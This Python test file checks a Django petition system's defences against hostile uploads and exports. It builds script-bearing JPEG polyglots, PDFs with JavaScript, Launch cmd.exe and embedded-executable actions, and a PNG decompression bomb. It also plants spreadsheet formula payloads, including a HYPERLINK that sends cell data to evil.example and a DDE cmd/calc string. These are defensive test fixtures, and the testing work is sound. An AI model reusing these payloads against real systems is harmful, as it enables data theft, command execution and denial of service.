"""Uploaded files and exports against a hostile tester (issue 15, items 8-10): what is served
and how, what survives re-encoding, PDFs with active content, image bombs and the order of the
checks, limits on additions and request bodies, formulas and control characters in ledgers."""

import csv
import io
import json
import struct
import time
import zlib

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject

from petitions import uploads
from petitions.models import Attachment, Petition, PetitionEvent

from .factories import PetitionFactory
from .test_submission import form_data, submit_url

SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"


# --- files a tester would build -------------------------------------------------------------


def clean_pdf(**active) -> bytes:
    """A one-page PDF written by pypdf; ``js``, ``attachment`` or ``launch`` add active content."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    if active.get("js"):
        writer.add_open_action(JavaScript("app.alert(1)"))
    if active.get("attachment"):
        writer.add_attachment("报价单.exe", b"MZ\x90\x00")
    if active.get("launch") or active.get("file_link"):  # hidden one level down: a link on the page
        if active.get("launch"):
            action = {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        else:  # opens a file carried inside the PDF, its stream without a /Type
            stream = writer._add_object(StreamObject())
            filespec = DictionaryObject({NameObject("/EF"): DictionaryObject({NameObject("/F"): stream})})
            action = {NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): filespec}
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject(),
                NameObject("/A"): DictionaryObject(action),
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    if active.get("password"):
        writer.encrypt("secret")
    if active.get("restricted"):  # opens without a password; copying and editing restricted (AES)
        writer.encrypt("", "owner-secret", permissions_flag=0, algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


HTML_PDF = b"%PDF-1.4\n" + SCRIPT + b"\n%%EOF\n"


def jpeg_polyglot() -> bytes:
    """A real JPEG whose comment and an APP segment hold an HTML page with a script."""
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "green").save(out, "JPEG", comment=SCRIPT, icc_profile=SCRIPT)
    return out.getvalue()


def png_bomb(side=8900) -> bytes:
    """The tester's one-colour PNG: side × side pixels in a few kilobytes."""
    row = b"\x00" + b"\x00" * side  # filter byte + one grey byte per pixel
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg(size, **options) -> bytes:
    out = io.BytesIO()
    Image.new("L", size, 128).save(out, "JPEG", quality=50, **options)
    return out.getvalue()


def markers(data: bytes) -> list[int]:
    """The JPEG segment markers before the image data."""
    found, at = [], 2
    while at < len(data) and data[at] == 0xFF:
        marker = data[at + 1]
        found.append(marker)
        if marker == 0xDA:  # start of scan: image data follows
            break
        at += 2 + struct.unpack(">H", data[at + 2 : at + 4])[0]
    return found


def stored(attachment) -> bytes:
    with default_storage.open(attachment.file.name) as handle:
        return handle.read()


def post_files(client, world, *files):
    return client.post(submit_url(world), {**form_data(world), "attachments": list(files)})


# --- item 8: what is stored and how it is served ---------------------------------------------


@pytest.mark.django_db
class TestServedAsTheirKind:
    def _attachment(self, petition, kind, name, content):
        attachment = Attachment(petition=petition, kind=kind, original_name=name, size=len(content))
        attachment.file.save("x", ContentFile(content), save=False)
        attachment.save()
        return attachment

    def test_an_old_html_pdf_named_html_downloads_as_a_pdf_never_as_a_page(self, client, world, petition):
        attachment = self._attachment(petition, "pdf", "x.html", HTML_PDF)
        client.force_login(world.deputy)
        response = client.get(f"/admin/petitions/petition/attachment/{attachment.pk}/")
        assert response.status_code == 200
        assert response["Content-Type"] == "application/pdf"
        assert response["Content-Disposition"].startswith("attachment;")
        assert 'filename="x.pdf"' in response["Content-Disposition"]
        assert response["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in response["Content-Security-Policy"]

    def test_an_image_is_shown_inline_only_as_a_jpeg(self, client, world, petition):
        attachment = self._attachment(petition, "image", "现场照片.PNG.html", jpeg((20, 20)))
        client.force_login(world.deputy)
        response = client.get(f"/admin/petitions/petition/attachment/{attachment.pk}/")
        assert response["Content-Type"] == "image/jpeg"
        assert response["Content-Disposition"].startswith("inline;")
        assert ".jpg" in response["Content-Disposition"] and ".html" not in response["Content-Disposition"]
        assert response["X-Content-Type-Options"] == "nosniff"

    def test_a_file_missing_from_storage_is_a_404_not_a_500(self, client, world, petition):
        attachment = self._attachment(petition, "pdf", "a.pdf", clean_pdf())
        default_storage.delete(attachment.file.name)
        client.force_login(world.deputy)
        assert client.get(f"/admin/petitions/petition/attachment/{attachment.pk}/").status_code == 404

    def test_the_html_pdf_is_refused_at_upload(self, client, world):
        response = post_files(client, world, SimpleUploadedFile("x.html", HTML_PDF, content_type="text/html"))
        assert response.status_code == 400 and Petition.objects.count() == 0
        assert "不是有效的 PDF" in response.content.decode()

    def test_a_jpeg_html_polyglot_loses_its_script_and_every_metadata_block(self, client, world):
        polyglot = jpeg_polyglot()
        assert b"<script>" in polyglot and 0xFE in markers(polyglot)  # the tester's file, as sent
        response = post_files(client, world, SimpleUploadedFile("a.jpg", polyglot))
        assert response.status_code == 302
        kept = stored(Attachment.objects.get())
        assert b"script" not in kept and b"html" not in kept
        # SOI is not listed; left: JFIF (APP0), quantisation and Huffman tables, frame, scan
        assert set(markers(kept)) <= {0xE0, 0xDB, 0xC4, 0xC0, 0xDA}
        with Image.open(io.BytesIO(kept)) as image:
            assert "comment" not in image.info and "icc_profile" not in image.info and not image.getexif()

    @pytest.mark.parametrize(
        "active",
        [{"js": True}, {"attachment": True}, {"launch": True}, {"file_link": True}],
        ids=["javascript", "embedded", "launch", "link-to-embedded-file"],
    )
    def test_pdfs_with_active_content_are_refused(self, client, world, active):
        response = post_files(client, world, SimpleUploadedFile("材料.pdf", clean_pdf(**active)))
        assert response.status_code == 400 and Petition.objects.count() == 0
        assert "含有脚本" in response.content.decode()

    def test_a_password_protected_pdf_is_refused_with_a_reason(self, client, world):
        response = post_files(client, world, SimpleUploadedFile("材料.pdf", clean_pdf(password=True)))
        assert response.status_code == 400 and "密码" in response.content.decode()

    def test_a_pdf_with_only_an_owner_password_is_taken(self, client, world):
        response = post_files(client, world, SimpleUploadedFile("政府文件.pdf", clean_pdf(restricted=True)))
        assert response.status_code == 302 and Attachment.objects.get().kind == "pdf"

    def test_a_plain_pdf_is_kept_byte_for_byte(self, client, world):
        pdf = clean_pdf()
        assert post_files(client, world, SimpleUploadedFile("营业执照.pdf", pdf)).status_code == 302
        attachment = Attachment.objects.get()
        assert attachment.kind == "pdf" and stored(attachment) == pdf

    def test_kind_comes_from_the_bytes_not_the_name(self, client, world):
        for name, content in (("a.pdf", b"PK\x03\x04 a zip"), ("b.jpg", b"II*\x00 a tiff"), ("c.png", SCRIPT)):
            response = post_files(client, world, SimpleUploadedFile(name, content))
            assert response.status_code == 400, name
        assert Petition.objects.count() == 0


# --- item 9: image bombs, the order of checks, additions, bodies -----------------------------


@pytest.fixture(scope="module")
def bomb():
    return png_bomb()


@pytest.mark.django_db
class TestImageBombs:
    @pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")  # Pillow's own guard, behind ours
    def test_the_tester_png_bomb_is_refused_from_its_header_in_milliseconds(self, client, world, bomb):
        assert len(bomb) < 150_000
        started = time.perf_counter()
        response = post_files(client, world, *(SimpleUploadedFile(f"{n}.png", bomb) for n in range(4)))
        elapsed = time.perf_counter() - started
        assert response.status_code == 400 and Petition.objects.count() == 0
        assert "像素过多" in response.content.decode()
        assert elapsed < 1.5  # decoding one of them took 2 s

    def test_a_progressive_jpeg_is_held_to_the_full_decode_cap(self, settings):
        settings.IMAGE_MAX_FULL_DECODE_PIXELS = 1_000_000
        from django.core.exceptions import ValidationError

        with pytest.raises(ValidationError, match="像素过多"):
            uploads.clean_uploads([SimpleUploadedFile("p.jpg", jpeg((1200, 1000), progressive=True))])
        assert uploads.clean_uploads([SimpleUploadedFile("b.jpg", jpeg((1200, 1000)))])  # baseline: decoded reduced

    def test_a_large_baseline_photo_is_decoded_reduced_and_kept_at_2000_pixels(self, monkeypatch):
        photo = jpeg((8000, 6000))
        decoded = []
        original = Image.Image.load

        def spy(image):
            result = original(image)
            decoded.append(image.size)
            return result

        monkeypatch.setattr(Image.Image, "load", spy)
        (upload,) = uploads.finish_uploads(uploads.clean_uploads([SimpleUploadedFile("a.jpg", photo)]))
        with Image.open(io.BytesIO(upload.content)) as image:
            assert image.size == (2000, 1500)
        assert max(w * h for w, h in decoded) <= 2000 * 1500  # never the 48 Mpx original

    def test_a_phone_multi_picture_jpeg_counts_as_a_jpeg(self, settings):
        settings.IMAGE_MAX_FULL_DECODE_PIXELS = 1_000_000
        out = io.BytesIO()
        Image.new("RGB", (3000, 2000), "red").save(
            out, "MPO", save_all=True, append_images=[Image.new("RGB", (3000, 2000))]
        )
        (upload,) = uploads.finish_uploads(uploads.clean_uploads([SimpleUploadedFile("人像.jpg", out.getvalue())]))
        with Image.open(io.BytesIO(upload.content)) as kept:
            assert kept.format == "JPEG" and kept.size == (2000, 1333) and kept.getpixel((5, 5))[0] > 200

    def test_limits_are_checked_before_anything_is_decoded(self, client, world, settings, monkeypatch):
        settings.PETITION_RATE_PER_CLIENT = 1
        calls = []
        real = uploads.reencode_image
        monkeypatch.setattr(uploads, "reencode_image", lambda data, name: calls.append(name) or real(data, name))
        photo = jpeg((40, 30))
        assert post_files(client, world, SimpleUploadedFile("1.jpg", photo)).status_code == 302
        assert calls == ["1.jpg"]
        response = post_files(client, world, *(SimpleUploadedFile(f"{n}.jpg", photo) for n in range(2, 6)))
        assert response.status_code == 400 and "稍后再试" in response.content.decode()
        assert calls == ["1.jpg"]  # the throttled submission decoded nothing

    def test_a_file_refused_once_decoded_is_a_form_error_not_a_500(self, client, world):
        truncated = jpeg((400, 300))[:400]  # a valid header, then nothing
        response = post_files(client, world, SimpleUploadedFile("半张.jpg", truncated))
        assert response.status_code == 400 and Petition.objects.count() == 0
        body = response.content.decode()
        assert "不是可读取的图片" in body and "园区通勤公交班次不足" in body  # what was typed is kept


@pytest.mark.django_db
class TestAdditions:
    def test_additions_to_one_request_are_limited_per_hour(self, client, petition, settings):
        settings.PETITION_ADD_INFO_RATE_PER_REQUEST = 2
        url = petition.get_tracking_url() + "add/"
        codes = [client.post(url, {"text": f"补充 {n}"}, REMOTE_ADDR=f"10.7.0.{n}").status_code for n in range(3)]
        assert codes == [302, 302, 429]
        assert PetitionEvent.objects.filter(petition=petition, action="add_info").count() == 2
        assert "稍后再试" in client.post(url, {"text": "再补充"}).content.decode()

    def test_additions_from_one_client_are_limited_across_requests(self, client, world, settings):
        settings.PETITION_ADD_INFO_RATE_PER_CLIENT = 2
        petitions = [PetitionFactory(point=world.point) for _ in range(3)]
        codes = [client.post(p.get_tracking_url() + "add/", {"text": "补充"}).status_code for p in petitions]
        assert codes == [302, 302, 429]

    def test_a_throttled_addition_decodes_nothing(self, client, petition, settings, monkeypatch):
        settings.PETITION_ADD_INFO_RATE_PER_REQUEST = 1
        calls = []
        monkeypatch.setattr(uploads, "reencode_image", lambda data, name: calls.append(name) or jpeg((4, 4)))
        url = petition.get_tracking_url() + "add/"
        client.post(url, {"text": "第一次"})
        response = client.post(url, {"text": "第二次", "attachments": [SimpleUploadedFile("a.jpg", jpeg((40, 30)))]})
        assert response.status_code == 429 and calls == []
        assert petition.attachments.count() == 0

    @pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
    def test_an_addition_with_a_bomb_is_refused_and_keeps_the_text(self, client, petition, bomb):
        url = petition.get_tracking_url() + "add/"
        response = client.post(url, {"text": "现场照片见附件", "attachments": [SimpleUploadedFile("x.png", bomb)]})
        assert response.status_code == 400 and "像素过多" in response.content.decode()
        assert "现场照片见附件" in response.content.decode()
        assert PetitionEvent.objects.filter(petition=petition, action="add_info").count() == 0


@pytest.mark.django_db
def test_a_request_body_over_the_cap_gets_a_chinese_413_before_it_is_read(client, world, settings):
    settings.REQUEST_MAX_BYTES = 50_000
    big = SimpleUploadedFile("a.jpg", b"\xff\xd8\xff" + b"\x00" * 60_000)
    response = post_files(client, world, big)
    assert response.status_code == 413 and Petition.objects.count() == 0
    body = response.content.decode()
    assert "提交的内容过大" in body and "48.8" in body
    # The API answers the same refusal as a problem, in Chinese, not with the page.
    response = client.post("/api/v1/public/requests/", b"{}" + b" " * 60_000, content_type="application/json")
    assert response.status_code == 413 and response["Content-Type"] == "application/problem+json"
    assert response.json()["code"] == "too_large" and "48.8" in response.json()["detail"]


@pytest.mark.django_db
def test_a_too_large_text_body_is_a_chinese_400_not_an_english_one(client, world, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    response = client.post(submit_url(world), form_data(world, content="很长" * 1000))
    assert response.status_code == 400 and "无法处理" in response.content.decode()  # templates/400.html


@pytest.mark.django_db
def test_a_flood_of_files_is_refused_before_they_are_spooled(client, world):
    many = [SimpleUploadedFile(f"{n}.jpg", b"\xff\xd8\xff") for n in range(21)]
    response = post_files(client, world, *many)
    assert response.status_code == 400 and "无法处理" in response.content.decode()  # templates/400.html
    assert Petition.objects.count() == 0


# --- item 10: formulas and control characters --------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


@pytest.fixture
def hostile_rows(world):
    from django.utils import timezone

    now = timezone.now()
    PetitionFactory(point=world.point, enterprise_name=FORMULA, title="@SUM(1+1)*cmd|' /C calc'!A0", now=now)
    # A row saved before input was cleaned: a backspace in the title.
    PetitionFactory(point=world.point, enterprise_name="-2+3", title="标题\x08含控制字符\x1b", now=now)
    return now


def _period(now):
    day = now.date().isoformat()
    return f"start={day}&end={day}"


@pytest.mark.django_db
class TestLedgerExports:
    def test_csv_cells_that_start_a_formula_are_quoted(self, client, world, hostile_rows):
        client.force_login(world.office)
        response = client.get(f"/ledgers/requests/export.csv?point={world.point.pk}&{_period(hostile_rows)}")
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'-2+3" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert "标题含控制字符" in cells

    def test_xlsx_exports_old_control_characters_and_writes_formulas_as_text(self, client, world, hostile_rows):
        client.force_login(world.office)
        response = client.get(f"/ledgers/requests/export.xlsx?point={world.point.pk}&{_period(hostile_rows)}")
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        cells = {cell.value: cell for row in sheet.iter_rows(min_row=3) for cell in row if cell.value is not None}
        assert cells[FORMULA].data_type == "s"  # a string, not a live formula
        assert cells["-2+3"].data_type == "s"
        assert "标题含控制字符" in cells


@pytest.mark.django_db
class TestControlCharactersAtInput:
    def test_the_public_form_stores_what_was_visible(self, client, world):
        data = form_data(
            world, title="园区\x08停车\x1b难", content="第一行\x0b第二行\u202e，内容足够长", contact_name="李\x1f四"
        )
        assert client.post(submit_url(world), data).status_code == 302
        petition = Petition.objects.get()
        assert petition.title == "园区停车难" and petition.contact_name == "李四"
        assert petition.content == "第一行\n第二行，内容足够长"

    def test_additions_and_staff_forms_are_cleaned_too(self, client, petition):
        from petitions.forms import NoteForm, ReasonForm

        client.post(petition.get_tracking_url() + "add/", {"text": "补充\x07说明"})
        assert PetitionEvent.objects.get(action="add_info").text == "补充说明"
        forms = (
            NoteForm({"text": "内部\x1f备注"}, petition=petition),
            ReasonForm({"reason": "重复\x85反映"}, petition=petition),
        )
        for form in forms:
            assert form.is_valid() and list(form.cleaned_data.values())[0] in ("内部备注", "重复反映")

    def test_the_api_form_input_is_cleaned(self, world):
        from petitions.forms import PublicPetitionForm

        form = PublicPetitionForm(form_data(world, title="标题\x08"), {}, point=world.point)
        assert form.is_valid(), form.errors
        assert form.cleaned_data["title"] == "标题"


@pytest.mark.django_db
class TestThroughTheApi:
    @pytest.fixture
    def api(self):
        from rest_framework.test import APIClient

        return APIClient()

    def _file(self, name, content):
        upload = io.BytesIO(content)
        upload.name = name
        return upload

    def test_a_file_refused_once_decoded_is_a_400_with_the_reason(self, api, world):
        from .test_api import body

        truncated = self._file("半张.jpg", jpeg((400, 300))[:400])
        response = api.post(
            "/api/v1/public/requests/",
            {**body(world), "attachments": [truncated]},
            format="multipart",
            HTTP_X_REQUESTED_WITH="XMLHttpRequest",
        )
        assert response.status_code == 400 and Petition.objects.count() == 0
        assert "不是可读取的图片" in json.dumps(response.json(), ensure_ascii=False)

    def test_an_addition_with_an_active_pdf_is_a_400(self, api, petition):
        url = f"/api/v1/public/requests/{petition.number}/{petition.access_token}/info/"
        pdf = self._file("a.pdf", clean_pdf(js=True))
        response = api.post(
            url, {"text": "补充", "attachments": [pdf]}, format="multipart", HTTP_X_REQUESTED_WITH="XMLHttpRequest"
        )
        assert response.status_code == 400 and "含有脚本" in json.dumps(response.json(), ensure_ascii=False)
        assert petition.attachments.count() == 0


@pytest.mark.parametrize(
    "mode,fmt,options",
    [
        ("RGBA", "PNG", {}),
        ("RGB", "PNG", {"transparency": (0, 0, 0)}),
        ("P", "GIF", {"transparency": 0}),
        ("LA", "PNG", {}),
        ("CMYK", "JPEG", {}),
        ("RGB", "WEBP", {}),
    ],
)
def test_every_accepted_kind_of_picture_is_kept_upright_and_transparent_parts_white(mode, fmt, options):
    picture = Image.new(mode, (300, 200))  # all zeros: black, and fully transparent where there is alpha
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° to show
    out = io.BytesIO()
    picture.save(out, fmt, exif=exif.tobytes() if fmt in ("JPEG", "WEBP", "PNG") else None, **options)
    (upload,) = uploads.finish_uploads(uploads.clean_uploads([SimpleUploadedFile(f"a.{fmt.lower()}", out.getvalue())]))
    with Image.open(io.BytesIO(upload.content)) as kept:
        assert kept.format == "JPEG" and kept.mode == "RGB"
        if fmt in ("JPEG", "WEBP", "PNG"):
            assert kept.size == (200, 300)
        # transparent parts become white (not black); CMYK all-zero is white too; the rest stays black
        white = mode in ("RGBA", "LA", "CMYK") or "transparency" in options
        pixel = kept.getpixel((10, 10))
        assert min(pixel) > 235 if white else max(pixel) < 20
